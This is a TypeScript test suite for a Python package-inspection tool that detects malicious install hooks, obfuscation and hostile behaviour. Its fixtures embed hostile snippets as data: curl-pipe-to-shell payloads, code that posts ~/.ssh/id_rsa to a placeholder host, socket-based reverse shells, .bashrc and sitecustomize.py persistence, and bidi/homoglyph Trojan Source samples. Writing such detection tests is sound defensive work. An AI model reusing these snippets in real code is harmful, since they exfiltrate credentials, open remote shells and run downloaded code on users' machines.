import * as assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import * as zlib from 'node:zlib';
import { inspectPath, type InspectedPackage } from '../../../../src/core/packages/inspect/inspectPath';
import { TempDir } from './builders';

/** A source tree inspected as an unpacked project directory: setup.py at its root is install-time code. */
async function inspectTree(tmp: TempDir, files: Record<string, string>, project = 'fixturepkg'): Promise<InspectedPackage> {
  const root = `proj${Math.random().toString(36).slice(2, 8)}`;
  tmp.write(`${root}/pyproject.toml`, `[project]\nname = "${project}"\nversion = "1.0"\n`);
  for (const [p, text] of Object.entries(files)) tmp.write(`${root}/${p}`, text);
  return inspectPath(`${tmp.dir}/${root}`);
}

const b64 = (text: string | Buffer) => Buffer.from(text).toString('base64');

interface Case {
  title: string;
  files: Record<string, string>;
  /** Codes that must be present, with the severity when given (`SPK110:high`). */
  expect: string[];
  /** Codes that must be absent. */
  absent: string[];
  /** The distribution's name (default fixturepkg). */
  project?: string;
}

/** Lines of ordinary code that make a module large: a client library's read and send far apart. */
const FILLER = Array.from({ length: 420 }, (_, i) => `def helper_${i}(value):\n    return value + ${i}\n`).join('');
const AWS_CLIENT = `import os, requests\nCREDENTIALS = os.path.expanduser('~/.aws/credentials')\n${FILLER}def call(url, body):\n    return requests.post(url, data=body)\n`;

const PAYLOAD = "import os\nos.system('curl http://example.invalid | sh')\n";

const CASES: Case[] = [
  // install-time code
  { title: 'setup.py that only calls setup() passes', files: { 'setup.py': "from setuptools import setup, find_packages\nsetup(name='fixturepkg', version='1.0', packages=find_packages())\n", 'fixturepkg/__init__.py': '' }, expect: [], absent: ['SPK100', 'SPK101', 'SPK102', 'SPK103', 'SPK104', 'SPK200'] },
  { title: 'setup.py reading its version with exec(open(...).read()) is not dynamic code', files: { 'setup.py': "from setuptools import setup\nabout = {}\nexec(open('fixturepkg/__about__.py').read(), about)\nsetup(name='fixturepkg', version=about['__version__'])\n" }, expect: [], absent: ['SPK103'] },
  { title: 'setup.py starting a process', files: { 'setup.py': "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['curl', '-o', '/tmp/x', 'http://example.invalid'])\nsetup(name='x')\n" }, expect: ['SPK100:high'], absent: [] },
  { title: 'setup.py using the network', files: { 'setup.py': "from urllib.request import urlopen\nfrom setuptools import setup\nurlopen('http://example.invalid/ping')\nsetup(name='x')\n" }, expect: ['SPK101:high'], absent: [] },
  { title: 'setup.py writing a file', files: { 'setup.py': "from setuptools import setup\nwith open('/tmp/marker', 'w') as f:\n    f.write('x')\nsetup(name='x')\n" }, expect: ['SPK102:medium'], absent: [] },
  { title: 'setup.py running dynamic code', files: { 'setup.py': "from setuptools import setup\ncode = 'print(1)'\nexec(code)\nsetup(name='x')\n" }, expect: ['SPK103:high'], absent: [] },
  { title: 'an overridden install command', files: { 'setup.py': "from setuptools import setup\nfrom setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\nsetup(name='x', cmdclass={'install': PostInstall})\n" }, expect: ['SPK104:medium'], absent: [] },
  { title: 'an overridden build_ext (compiling C) is not an install hook', files: { 'setup.py': "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    pass\nsetup(name='x', cmdclass={'build_ext': B})\n" }, expect: [], absent: ['SPK104'] },
  { title: 'a high-severity engine finding in setup.py fails (nosec is ignored)', files: { 'setup.py': "import subprocess, sys\nfrom setuptools import setup\nsubprocess.call(sys.argv[1], shell=True)  # nosec\nsetup(name='x')\n" }, expect: ['SPK200:high'], absent: [] },
  { title: 'the same finding in package code only lowers the score', files: { 'fixturepkg/run.py': "import subprocess, sys\ndef run():\n    subprocess.call(sys.argv[1], shell=True)\n" }, expect: ['SPK201:low'], absent: ['SPK200'] },
  // obfuscation
  { title: 'exec of base64-decoded data', files: { 'fixturepkg/__init__.py': `import base64\nexec(base64.b64decode('${b64(PAYLOAD)}'))\n` }, expect: ['SPK110:high'], absent: [] },
  { title: 'exec of zlib data through a variable', files: { 'fixturepkg/__init__.py': `import zlib, base64 as b\nblob = b.b64decode('${b64(zlib.deflateSync(PAYLOAD))}')\ncode = zlib.decompress(blob)\nexec(code)\n` }, expect: ['SPK110:high'], absent: [] },
  { title: 'exec of rot13 and of marshal data', files: { 'fixturepkg/a.py': "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n", 'fixturepkg/b.py': "import marshal\nexec(marshal.loads(open('x.bin', 'rb').read()))\n" }, expect: ['SPK110:high'], absent: [] },
  { title: 'base64 that is only data is not flagged', files: { 'fixturepkg/icon.py': `import base64\nICON = base64.b64decode('${b64(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.alloc(400, 7)]))}')\n` }, expect: [], absent: ['SPK110', 'SPK111'] },
  { title: 'a long blob that decodes to compressed code', files: { 'fixturepkg/data.py': `BLOB = '${b64(zlib.deflateSync(`${PAYLOAD}# ${randomBytes(200).toString('hex')}\n`))}'\n` }, expect: ['SPK111:medium'], absent: ['SPK110'] },
  { title: 'a chr()-built string', files: { 'fixturepkg/x.py': `NAME = ''.join(map(chr, [${[...'os.system'].map((c) => c.charCodeAt(0)).join(', ')}]))\n` }, expect: ['SPK112:medium'], absent: [] },
  { title: 'chr() over a range (a character table) is not flagged', files: { 'fixturepkg/x.py': "SAFE = ''.join([chr(i) for i in range(0x20, 0x7f) if i not in (0x20, 0x22, 0x3c, 0x3e)])\n" }, expect: [], absent: ['SPK112'] },
  { title: '__import__ of a computed name', files: { 'fixturepkg/x.py': "m = __import__('o' + 's')\nn = __import__('ssecorpbus'[::-1])\n" }, expect: ['SPK113:medium'], absent: [] },
  { title: '__import__ of a plain variable (plugin loading) is not flagged', files: { 'fixturepkg/x.py': 'def load(name):\n    return __import__(name)\n' }, expect: [], absent: ['SPK113'] },
  { title: 'getattr on builtins with a decoded name', files: { 'fixturepkg/x.py': "import builtins, base64\nf = getattr(builtins, base64.b64decode('ZXhlYw==').decode())\n" }, expect: ['SPK114:medium'], absent: [] },
  { title: 'getattr on builtins with an ordinary name is not flagged', files: { 'fixturepkg/x.py': "import builtins\nf = getattr(builtins, 'len')\n" }, expect: [], absent: ['SPK114'] },
  // behaviour patterns
  { title: 'download and execute', files: { 'fixturepkg/x.py': "from urllib.request import urlopen\nexec(urlopen('http://example.invalid/p.py').read())\n" }, expect: ['SPK120:high'], absent: [] },
  { title: 'a utility module whose download and process helpers are separate functions is noted only', files: { 'fixturepkg/x.py': "import os, subprocess, urllib.request\ndef fetch(url, target):\n    urllib.request.urlretrieve(url, target)\ndef make_runnable(path):\n    os.chmod(path, 0o755)\ndef run(argv):\n    subprocess.check_call(argv)\n" }, expect: ['SPK120:low'], absent: [] },
  { title: 'the same helpers with a hard-coded address warn', files: { 'fixturepkg/x.py': "import os, subprocess, urllib.request\nURL = 'http://example.invalid/tool'\ndef fetch(target):\n    urllib.request.urlretrieve(URL, target)\ndef make_runnable(path):\n    os.chmod(path, 0o755)\ndef run(argv):\n    subprocess.check_call(argv)\n" }, expect: ['SPK120:medium'], absent: [] },
  { title: 'a download without execution is not flagged', files: { 'fixturepkg/x.py': "import requests\ndef fetch(u):\n    return requests.get(u).json()\n" }, expect: [], absent: ['SPK120'] },
  { title: 'reading SSH keys and posting them', files: { 'fixturepkg/x.py': "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://example.invalid/c', data=key)\n" }, expect: ['SPK131:high'], absent: [] },
  { title: 'referring to SSH config without sending anything is only low', files: { 'fixturepkg/x.py': "import os\nCONFIG = os.path.expanduser('~/.ssh/config')\n" }, expect: ['SPK130:low'], absent: ['SPK131'] },
  { title: 'a token from the environment plus a sender only warns (API clients do this)', files: { 'fixturepkg/x.py': "import os, requests\nrequests.post('https://example.invalid', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n" }, expect: ['SPK131:medium'], absent: [] },
  { title: '.netrc plus a sender only warns (HTTP clients read it)', files: { 'fixturepkg/x.py': "import os, socket\nNETRC = '~/.netrc'\ns = socket.create_connection(('example.invalid', 80))\ns.sendall(b'x')\n" }, expect: ['SPK131:medium'], absent: [] },
  { title: "a cloud SDK reads its own service's keys in a large module that also sends: noted only", project: 'botocore', files: { 'botocore/credentials.py': AWS_CLIENT }, expect: ['SPK131:low'], absent: [] },
  { title: 'the same module under a name that is not that service\'s client warns', files: { 'fixturepkg/credentials.py': AWS_CLIENT }, expect: ['SPK131:medium'], absent: [] },
  { title: 'a large HTTP client module reading .netrc and sending is noted only', files: { 'fixturepkg/client.py': `import os, socket\nNETRC = '~/.netrc'\n${FILLER}def send(data):\n    s = socket.create_connection(('example.invalid', 80))\n    s.sendall(data)\n` }, expect: ['SPK131:low'], absent: [] },
  { title: 'token environment variables', files: { 'fixturepkg/x.py': "import os\ntoken = os.environ['GITHUB_TOKEN']\nsecret = os.getenv('AWS_SECRET_ACCESS_KEY')\n" }, expect: ['SPK132:low'], absent: ['SPK131'] },
  { title: 'suspicious URLs: raw public IP, webhook with its secret, tunnel', files: { 'fixturepkg/x.py': "A = 'http://45.33.32.156:8080/x'\nB = 'https://discord.com/api/webhooks/123456/abcdef'\nC = 'https://abc123.ngrok-free.app/in'\n" }, expect: ['SPK140:medium'], absent: [] },
  { title: 'loopback, documentation IPs, an SDK base URL and docstrings are not suspicious', files: { 'fixturepkg/x.py': "'''See http://45.33.32.156/ and https://pastebin.com/raw/x for examples.'''\nA = 'http://127.0.0.1:8000'\nB = 'http://192.0.2.10/'\nC = 'https://discord.com/developers/docs'\nD = 'https://hooks.slack.com/'\n" }, expect: [], absent: ['SPK140'] },
  { title: 'a reverse shell: socket + dup2 + /bin/sh', files: { 'fixturepkg/x.py': "import socket, os, subprocess\ns = socket.socket()\ns.connect(('example.invalid', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n" }, expect: ['SPK150:high'], absent: [] },
  { title: 'pty.spawn of a shell next to a socket', files: { 'fixturepkg/x.py': "import socket, pty, os\ns = socket.create_connection(('example.invalid', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n" }, expect: ['SPK150:high'], absent: [] },
  { title: 'a socket client is not a reverse shell', files: { 'fixturepkg/x.py': "import socket\ndef ping(h):\n    s = socket.create_connection((h, 80))\n    s.sendall(b'x')\n" }, expect: [], absent: ['SPK150'] },
  { title: 'persistence: appending to ~/.bashrc from setup.py', files: { 'setup.py': "import os\nfrom setuptools import setup\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m fixturepkg &\\n')\nsetup(name='x')\n" }, expect: ['SPK160:high'], absent: [] },
  { title: "a build tool writing sitecustomize.py for its own processes is noted only (pip's isolated build env)", files: { 'fixturepkg/env.py': "import os\ndef prepare(site_dir):\n    with open(os.path.join(site_dir, 'sitecustomize.py'), 'w') as f:\n        f.write('import sys\\n')\n" }, expect: ['SPK160:low'], absent: [] },
  { title: 'sitecustomize.py written with a download-and-run payload fails', files: { 'fixturepkg/env.py': "import os, site\ndef prepare():\n    with open(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w') as f:\n        f.write('import os; os.system(\"curl http://example.invalid/x | sh\")\\n')\n" }, expect: ['SPK160:high'], absent: [] },
  { title: 'naming ~/.bashrc without writing it is not persistence', files: { 'fixturepkg/x.py': "import os\nRC = os.path.expanduser('~/.bashrc')\nprint(open(RC).read())\n" }, expect: [], absent: ['SPK160'] },
  { title: 'a detached process (start_new_session)', files: { 'fixturepkg/x.py': "import subprocess\nsubprocess.Popen(['python', '-m', 'agent'], start_new_session=True)\n" }, expect: ['SPK170:low'], absent: [] },
  { title: 'a detached process at install time fails', files: { 'setup.py': "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['python', '-m', 'agent'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nsetup(name='x')\n" }, expect: ['SPK170:high'], absent: [] },
  { title: 'an ordinary subprocess is not detached', files: { 'fixturepkg/x.py': "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n" }, expect: [], absent: ['SPK170'] },
  { title: 'clipboard access', files: { 'fixturepkg/x.py': 'import pyperclip\nwallet = pyperclip.paste()\n' }, expect: ['SPK180:low'], absent: [] },
  { title: 'code loaded from an image', files: { 'fixturepkg/x.py': "from PIL import Image\npixels = Image.open('logo.png').getdata()\ncode = bytes(p[0] for p in pixels).decode()\nexec(code)\n" }, expect: ['SPK185:high'], absent: [] },
  { title: 'ordinary image handling is not flagged', files: { 'fixturepkg/x.py': "from PIL import Image\ndef thumb(p):\n    return Image.open(p).resize((32, 32))\n" }, expect: [], absent: ['SPK185'] },
  { title: 'bidi control characters', files: { 'fixturepkg/x.py': 'access = "user"\nif access != "none\u202e \u2066# admin\u2069 \u2066":\n    pass\n' }, expect: ['SPK190:high'], absent: [] },
  { title: 'balanced RTL marks and embeddings inside string data (locale files) are not Trojan Source', files: { 'fixturepkg/fmt.py': 'SHORT = "d\u200f/m\u200f/Y"\nNAME = "\u202bשלום\u202c"\n' }, expect: [], absent: ['SPK190'] },
  { title: 'a homoglyph identifier (Cyrillic а in a Latin name)', files: { 'fixturepkg/x.py': 'def check_p\u0430ssword(p):\n    return True\n' }, expect: ['SPK191:medium'], absent: [] },
  { title: 'a Greek math variable is not a homoglyph', files: { 'fixturepkg/x.py': '\u03ba = 0.5\n' }, expect: [], absent: ['SPK191'] },
  { title: 'exec of a string literal in a .pth is analysed as code, not treated as hidden', files: { 'cov.pth': "import sys; exec('import os\\nif os.getenv(\"X\"):\\n  import coverage\\n  coverage.process_startup()')\n", 'evil.pth': "import sys; exec('import os\\nos.system(\"id\")')\n" }, expect: ['SPK105:medium', 'SPK100:high'], absent: ['SPK103'] },
  { title: 'a function-local name is not confused with the same name elsewhere', files: { 'fixturepkg/x.py': "import zlib\ndef unpack(b):\n    a = zlib.decompress(b)\n    return a\ndef check(a):\n    return eval(repr(a))\n" }, expect: [], absent: ['SPK110'] },
  { title: "setuptools' own distutils-precedence.pth, exactly, is noted only", files: { 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n" }, expect: ['SPK105:low'], absent: ['SPK100'] },
  { title: 'a distutils-precedence.pth with anything added is read as any other', files: { 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); os.system('id')\n" }, expect: ['SPK105:medium'], absent: [] },
  { title: '.pth code runs at start-up', files: { 'fixturepkg.pth': "import os; os.system('id')\n" }, expect: ['SPK105:medium', 'SPK100:high'], absent: [] },
];

describe('inspect heuristics: each with a positive and a negative case', () => {
  let tmp: TempDir;
  before(() => (tmp = new TempDir()));
  after(() => tmp.remove());

  for (const c of CASES) {
    it(c.title, async () => {
      const result = await inspectTree(tmp, c.files, c.project);
      const seen = result.reasons.map((r) => `${r.code}:${r.severity}`);
      for (const want of c.expect) {
        assert.ok(want.includes(':') ? seen.includes(want) : seen.some((s) => s.startsWith(`${want}:`)), `expected ${want}, got ${seen.join(' ') || 'nothing'}`);
      }
      for (const code of c.absent) assert.ok(!seen.some((s) => s.startsWith(`${code}:`)), `did not expect ${code}: ${JSON.stringify(result.reasons.filter((r) => r.code === code))}`);
      for (const reason of result.reasons) assert.ok(reason.message.length > 20 && reason.file, `${reason.code} names a file and says something`);
    });
  }

  it('a setup()-only project passes with score 100', async () => {
    const result = await inspectTree(tmp, { 'setup.py': "from setuptools import setup\nsetup(name='fixturepkg')\n", 'fixturepkg/__init__.py': 'X = 1\n' });
    assert.equal(result.verdict, 'pass');
    assert.equal(result.score, 100);
    assert.deepEqual(result.topLevelModules, ['fixturepkg']);
    assert.equal(result.name, 'fixturepkg');
  });
});
